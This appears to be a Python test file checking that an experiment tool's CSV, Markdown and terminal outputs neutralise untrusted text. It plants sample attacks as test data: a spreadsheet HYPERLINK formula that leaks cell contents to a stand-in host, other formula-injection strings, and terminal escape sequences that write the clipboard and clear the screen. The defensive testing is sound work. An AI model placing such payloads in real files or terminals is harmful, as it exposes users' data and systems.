"""Exports of untrusted text: the flat CSV neutralises cells a spreadsheet would run as
formulas (JSONL and Parquet keep the values as they are), the Markdown export shows no image,
link or HTML from a run's names, ids, models, reasons or text, and the terminal listings print
no escape sequence."""

from __future__ import annotations

import json

import pandas as pd
from analysis_fixtures import record
from hostile import plant
from markdown_it import MarkdownIt
from test_debate import experiment, run
from test_export_formats import invoke

from playground.export.markdown import item_markdown, run_items
from playground.store.importer import import_records
from playground.store.tags import set_run_tags

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'


def formula_run(store, tiny_dataset) -> str:
    exp = experiment(tiny_dataset).model_copy(update={"name": FORMULA})
    summary, _ = run(exp, store, debaters=lambda messages, config: "+1 @SUM(A1:A9) " + FORMULA,
                     judge_replies=["Answer: A\nConfidence: 80"])  # fmt: skip
    set_run_tags(store, summary.info.id, ["-2+3"])
    return summary.info.id


def test_csv_export_neutralises_formulas_and_parquet_jsonl_keep_values(
    store, tiny_dataset, tmp_path
):
    run_id = formula_run(store, tiny_dataset)
    for fmt in ("csv", "parquet", "jsonl"):
        invoke(
            store, "export", "--format", fmt, "--out", str(tmp_path / f"out.{fmt}"), "--run", run_id
        )
    csv = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    turns = pd.read_csv(tmp_path / "out.turns.csv", dtype=str, keep_default_na=False)
    assert set(csv["run_name"]) == {"'" + FORMULA}
    debater = turns[turns["role"] == "debater_a"]["content"]
    assert len(debater) and all(c.startswith("'+1 @SUM") for c in debater)
    cells = [*csv.stack(), *turns.stack()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the values themselves are kept where no spreadsheet reads them as formulas
    parquet = pd.read_parquet(tmp_path / "out.parquet")
    assert set(parquet["run_name"]) == {FORMULA}
    parquet_turns = pd.read_parquet(tmp_path / "out.turns.parquet")
    assert all(
        c.startswith("+1 @SUM")
        for c in parquet_turns[parquet_turns["role"] == "debater_a"]["content"]
    )
    records = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert {r["origin"]["run"]["name"] for r in records} == {FORMULA}


def test_report_tables_as_csv_neutralise_formulas(store, tiny_dataset, tmp_path):
    formula_run(store, tiny_dataset)
    invoke(store, "report", "--reps", "5", "--csv-dir", str(tmp_path / "tables"))
    runs = pd.read_csv(tmp_path / "tables" / "overview.runs.csv", dtype=str, keep_default_na=False)
    assert "'" + FORMULA in runs.stack().tolist()


def test_markdown_export_shows_no_image_link_or_html(store, openai_server, tmp_path):
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])  # html blocks on
    run_ids = plant(store, tmp_path, openai_server, "http://127.0.0.1:9")
    for run_id in run_ids:
        for records in run_items(store, run_id).values():
            text = item_markdown(records)
            found = [t.type for b in parser.parse(text) for t in [b, *(b.children or [])]
                     if t.type in ("image", "link_open", "html_inline", "html_block")]  # fmt: skip
            assert not found, text
            assert "127.0.0.1:9/item.png" in text or "imported-item.png" in text


def test_runs_and_transcripts_listings_print_no_escape_sequence(store):
    run_id = "run\x1b]52;c;ZXZpbA==\x07\x1b[2J"
    import_records(store, [record(run_id, "item\x1b[31m", choice=0)])
    for args in (["runs"], ["transcripts", run_id]):
        out = invoke(store, *args).output
        assert "\x1b" not in out and "\x07" not in out
        assert "run\ufffd]52;c;ZXZpbA==" in out
